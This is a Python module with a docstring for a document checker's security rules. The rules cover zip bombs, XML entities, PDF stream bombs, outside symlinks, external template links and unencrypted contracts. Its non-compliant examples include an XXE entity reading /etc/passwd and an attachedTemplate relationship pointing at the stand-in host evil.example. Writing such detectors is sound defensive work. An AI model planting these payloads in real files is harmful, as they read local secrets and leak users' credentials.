"""Security (安全): files built to hurt a reader, and contracts stored in the clear.

Before any parser looks at a filed document, the reader checks what the file declares and what it
really inflates to, and refuses what is hostile: a zip bomb (a ratio or total size past the
limits, a member that inflates past its declared size, thousands of members), an XML entity or
DTD in an Office part (ECMA-376 forbids them; they are how billion-laughs and XXE attacks work), a
PDF stream inflating past its limit, a link leading out of the folder, a file that takes longer
than its time budget. The file is not read any further; nothing from outside is fetched, and the
rest of the archive is checked as usual.

With the ``pdfsig`` extra (``pip install itdocs[pdfsig]``, pyHanko) PDF signatures are validated
cryptographically, and a signature that is broken or followed by changes to the document is
reported (the file is still read and checked).

And seed 003 asks that contracts be stored encrypted, readable by the director only: with
``contracts_encrypted`` (default true) a contract file that opens without a password is reported.

Parameters: ``contracts_encrypted`` (the reading limits are ``itdocs.extract.Limits``).

### security/zip-bomb
A zip member inflates more than ``max_ratio`` (200) times its compressed size, past a small grace:
a decompression bomb.

Compliant: a .docx as Word writes it (ratios of 3–10). Non-compliant: a 200 KB .docx whose
``document.xml`` inflates to 1 GB.

### security/too-large
The file, or what it inflates to, is larger than the limits (200 MB on disk, 100 MB inflated).

Compliant: a 20 MB scanned PDF. Non-compliant: a .docx inflating to 1 GB of whitespace.

### security/too-many-members
A zip with more entries than ``max_members`` (10,000; a .docx has about 15).

Compliant: a .docx with 40 pictures. Non-compliant: a .docx of 12,000 empty entries.

### security/size-mismatch
A zip member inflates past the size its header declares: a lying header, made to slip past
checks that trust it.

Compliant: any zip written by Office. Non-compliant: a member declaring 4 KB that inflates to 1 GB.

### security/xml-entity
An Office XML part declares a DTD or an entity (billion laughs, external entities reading local
files or URLs). Refused outright; the entity is never expanded or fetched.

Compliant: Office XML (it never has a DTD). Non-compliant:
``<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>``.

### security/xml-too-complex
An XML part with more elements than ``max_xml_elements`` (500,000).

Compliant: a 600-page report. Non-compliant: a part of millions of empty elements.

### security/pdf-bomb
A PDF stream inflates past ``max_pdf_stream_bytes`` (16 MB).

Compliant: a scanned PDF. Non-compliant: a page stream inflating to 80 MB.

### security/symlink-outside
A link (or a linked folder) leads outside the checked folder: not followed, so nothing outside
the archive is read.

Compliant: no link. Non-compliant: ``合同.docx -> /etc/passwd``.

### security/timeout
Reading the file took longer than its time budget (``max_seconds``, 2 s): stopped, the rest of
the archive goes on.

Compliant: any ordinary document (a few ms). Non-compliant: a file crafted to take minutes.

### security/pdf-signature-invalid
A PDF signature field whose signature pyHanko finds ``modified`` (the signed bytes no longer
match, or the document was changed after signing beyond what a later signature or form filling
may add) or ``invalid`` (the signature does not verify, or cannot be parsed). Reported only with
the ``pdfsig`` extra installed; without it a filled field is only ``claimed`` (its ``/Name`` is
what the writer typed, not a proof) and nothing is reported. A valid signature from a signer with
no trusted root is ``valid-untrusted``: not reported by this rule.

Compliant: a contract PDF signed with a certificate and not changed since. Non-compliant: the same
PDF with an incremental update that replaces a page's text after it was signed.

### security/external-link
A .docx/.xlsx whose relationships point outside the file at something Word or Excel fetches on
opening: an attached template, a frame, a sub-document, a linked object or picture, a link to
another workbook. On a network share (``\\\\host\\share\\t.dotm``) opening the file sends the
opener's Windows credentials to that host. The file is read and checked as usual; nothing is fetched.
Hyperlinks (followed only on a click) are not reported.

Compliant: a template-free .docx with hyperlinks. Non-compliant: ``word/_rels/settings.xml.rels``
with ``Type=".../attachedTemplate" Target="file://///evil.example/share/t.dotm" TargetMode="External"``.

### security/unencrypted-contract
A contract file that opens without a password where the policy (``contracts_encrypted: true``)
asks contracts to be stored encrypted.

Compliant: ``ERP运维外包项目-2026年7月31日-服务合同.docx`` saved with a password to open.
Non-compliant: the same file saved without one.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from itdocs.access import items, pointer
from itdocs.checks.base import Check, Context, Hit, registrar
from itdocs.checks.file import archive_files
from itdocs.extract.model import PROBLEM_FAMILY

CHECKS: list[Check] = []
check = registrar(CHECKS, __name__)

SECURITY_CODES = tuple(code for code, family in PROBLEM_FAMILY.items() if family == "security")
RULES = tuple(f"security/{code}" for code in SECURITY_CODES)


@check(*RULES, args=("detail", "name"), name="security.problems")
def problems(data: Any, ctx: Context) -> Iterator[Hit]:
    for index, file in archive_files(data):
        for number, problem in items(file, "problems"):
            code = problem.get("code")
            if problem.get("family") != "security" or f"security/{code}" not in RULES:
                continue
            yield Hit(
                pointer("x-archive", "files", index, "problems", number),
                {"detail": problem.get("message"), "name": file.get("name")},
                {"code": code, "format": file.get("format"), "path": file.get("rel")},
                rule=f"security/{code}",
            )


@check("security/unencrypted-contract", reads=("contracts_encrypted",), args=("name",))
def unencrypted_contract(data: Any, ctx: Context) -> Iterator[Hit]:
    if ctx.params.get("contracts_encrypted") is not True:
        return
    for index, file in archive_files(data):
        codes = {p.get("code") for _, p in items(file, "problems")}
        if (
            file.get("type") == "contract"
            and file.get("format")
            and "password-protected" not in codes
        ):
            yield Hit(
                pointer("x-archive", "files", index),
                {"name": file.get("name")},
                {
                    "contracts_encrypted": True,
                    "format": file.get("format"),
                    "type_from": file.get("type_source"),
                },
            )
